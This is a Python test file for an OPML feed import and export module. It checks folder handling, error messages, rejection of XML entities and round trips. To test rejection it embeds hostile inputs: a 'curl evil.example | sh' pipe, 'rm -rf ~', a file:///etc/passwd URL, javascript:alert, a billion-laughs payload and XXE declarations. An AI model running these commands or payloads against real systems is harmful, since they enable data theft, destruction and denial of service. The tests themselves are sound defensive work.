"""feeds.opml: import with readable problems, safe XML, and a lossless round trip."""

from __future__ import annotations

from pathlib import Path
from xml.etree import ElementTree as ET

import pytest

from readinglist.feeds.opml import parse_opml, write_opml
from readinglist.model.errors import OPMLError
from readinglist.model.records import Feed, OPMLImport, OutlineFeed

DATA = Path(__file__).parent / "data" / "opml"


def opml(body: str, head: str = "<head><title>t</title></head>") -> bytes:
    return f'<?xml version="1.0"?><opml version="2.0">{head}<body>{body}</body></opml>'.encode()


def test_nested_folders_and_problems() -> None:
    result = parse_opml((DATA / "nested.opml").read_bytes())
    assert result.feeds == (
        OutlineFeed(
            url="https://blog.example.com/feed.xml",
            title="Deep Learning Notes & More",
            site_url="https://blog.example.com/",
            folder="Tech/ML",
        ),
        OutlineFeed(
            url="http://old.example.com/rss", title="Old style", site_url=None, folder="Tech/ML"
        ),
        OutlineFeed(
            url="https://ts.example.org/atom.xml", title="Time Series", site_url=None, folder="Tech"
        ),
        OutlineFeed(
            url="http://top.example.net/rss", title="Top level", site_url=None, folder=None
        ),
    )
    assert result.problems == (
        'duplicate "HTTPS://Blog.Example.com:443/feed.xml" (Again): already in the list',
        'refused "file:///etc/passwd" (Local): only http and https feeds can be imported',
        'refused "exec:rm -rf ~" (Exec): only http and https feeds can be imported',
        'refused "|curl evil.example | sh" (Pipe): only http and https feeds can be imported',
        'refused "javascript:alert(1)" (Script): only http and https feeds can be imported',
        'invalid address "http://" (Broken): no host name',
        'invalid address "/feed.xml" (Relative): not an absolute http or https address',
        'invalid address "https://example.com:99999/feed" (Bad port): '
        "malformed address (Port out of range 0-65535)",
    )


def test_opml_1_0_with_text_only_and_lowercase_attributes() -> None:
    body = b"""<opml version="1.0"><head/><body>
      <outline text="News"><outline text="A" type="rss" xmlurl="https://a.example/rss"/></outline>
    </body></opml>"""
    assert parse_opml(body) == OPMLImport(
        feeds=(OutlineFeed(url="https://a.example/rss", title="A", site_url=None, folder="News"),),
        problems=(),
    )


def test_untitled_problem_line() -> None:
    result = parse_opml(opml('<outline xmlUrl="ftp://x.example/feed"/>'))
    assert result.problems == (
        'refused "ftp://x.example/feed": only http and https feeds can be imported',
    )


def test_control_characters_in_problem_lines_are_replaced() -> None:
    result = parse_opml(opml('<outline text="x" xmlUrl="file:///a&#10;b"/>'))
    assert result.problems == (
        'refused "file:///a?b" (x): only http and https feeds can be imported',
    )


def test_slash_in_folder_name_does_not_nest() -> None:
    result = parse_opml(
        opml('<outline text="A/B"><outline xmlUrl="https://a.example/"/></outline>')
    )
    assert result.feeds[0].folder == "A-B"


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b"", "the OPML file is empty"),
        (b"  \n", "the OPML file is empty"),
        (b"<rss version='2.0'><channel/></rss>", "not an OPML file: the document is <rss>"),
        (b"<html><body>hi</body></html>", "not an OPML file: the document is <html>"),
        (b"just text", "not an OPML file: syntax error"),
        (b"<opml version='2.0'><head/></opml>", "the OPML file has no <body>"),
        (
            b"<opml version='2.0'><body><outline",
            "the OPML file is damaged: unclosed token (line 1)",
        ),
    ],
)
def test_not_opml(content: bytes, message: str) -> None:
    with pytest.raises(OPMLError) as info:
        parse_opml(content)
    assert str(info.value) == message


BILLION_LAUGHS = (
    '<?xml version="1.0"?>\n<!DOCTYPE opml [\n <!ENTITY lol "lol">\n'
    + "".join(
        f' <!ENTITY lol{i} "{("&lol" + (str(i - 1) if i > 1 else "") + ";") * 10}">\n'
        for i in range(1, 10)
    )
    + ']>\n<opml version="2.0"><head><title>&lol9;</title></head><body>'
    '<outline text="&lol9;" xmlUrl="https://a.example/"/></body></opml>'
).encode()


def test_billion_laughs_is_refused_before_any_expansion() -> None:
    with pytest.raises(OPMLError) as info:
        parse_opml(BILLION_LAUGHS)
    assert str(info.value) == "the OPML file declares XML entities, which are not allowed"


@pytest.mark.parametrize(
    "decl",
    [
        '<!ENTITY xxe SYSTEM "file:///etc/hostname">',
        '<!ENTITY % pe SYSTEM "file:///etc/hostname"> %pe;',
        '<!ENTITY img SYSTEM "x.png" NDATA png>',
    ],
)
def test_external_entities_are_refused(decl: str) -> None:
    body = (
        f'<?xml version="1.0"?><!DOCTYPE opml [{decl}]><opml version="2.0"><body>'
        '<outline text="&xxe;" xmlUrl="https://a.example/"/></body></opml>'
    ).encode()
    with pytest.raises(OPMLError, match="declares XML entities"):
        parse_opml(body)


def test_doctype_without_entities_is_fine() -> None:
    body = b'<?xml version="1.0"?><!DOCTYPE opml><opml version="1.0"><body><outline xmlUrl="https://a.example/"/></body></opml>'
    assert parse_opml(body).feeds[0].url == "https://a.example/"


def _feed(i: int, url: str, title: str, folder: str | None, site: str | None = None) -> Feed:
    return Feed(
        id=i, url=url, title=title, site_url=site, folder=folder, etag=None, last_modified=None,
        content_hash=None, last_checked=None, last_success=None, last_error=None, retry_after=None,
    )  # fmt: skip


FEEDS = [
    _feed(
        1,
        "https://a.example/feed?x=1&y=2",
        'A "quoted" <title> & more',
        "Tech/ML",
        "https://a.example/",
    ),
    _feed(2, "https://b.example/rss", "B", "Tech"),
    _feed(3, "https://c.example/atom", "", None),
    _feed(4, "https://d.example/rss", "Unicode ☃ 日本\x07", "Tech/ML"),
    _feed(5, "https://e.example/rss", "E", "Other"),
]


def test_write_opml_structure() -> None:
    data = write_opml(FEEDS, title="Mine & yours")
    assert data.startswith(b"<?xml version='1.0' encoding='utf-8'?>\n<opml version=\"2.0\">")
    root = ET.fromstring(data)
    assert root.findtext("head/title") == "Mine & yours"
    tech = root.find("body/outline[@text='Tech']")
    assert tech is not None and tech.get("xmlUrl") is None
    ml = tech.find("outline[@text='ML']")
    assert ml is not None
    assert [o.get("xmlUrl") for o in ml] == [
        "https://a.example/feed?x=1&y=2",
        "https://d.example/rss",
    ]
    assert b"&amp;y=2" in data
    assert b"\x07" not in data  # characters XML cannot carry are dropped


def test_round_trip() -> None:
    result = parse_opml(write_opml(FEEDS))
    assert result.problems == ()
    assert sorted(result.feeds, key=lambda f: f.url) == [
        OutlineFeed(
            url="https://a.example/feed?x=1&y=2",
            title='A "quoted" <title> & more',
            site_url="https://a.example/",
            folder="Tech/ML",
        ),
        OutlineFeed(url="https://b.example/rss", title="B", site_url=None, folder="Tech"),
        OutlineFeed(
            url="https://c.example/atom", title="https://c.example/atom", site_url=None, folder=None
        ),
        OutlineFeed(
            url="https://d.example/rss", title="Unicode ☃ 日本", site_url=None, folder="Tech/ML"
        ),
        OutlineFeed(url="https://e.example/rss", title="E", site_url=None, folder="Other"),
    ]


def test_write_empty() -> None:
    assert parse_opml(write_opml([])) == OPMLImport(feeds=(), problems=())
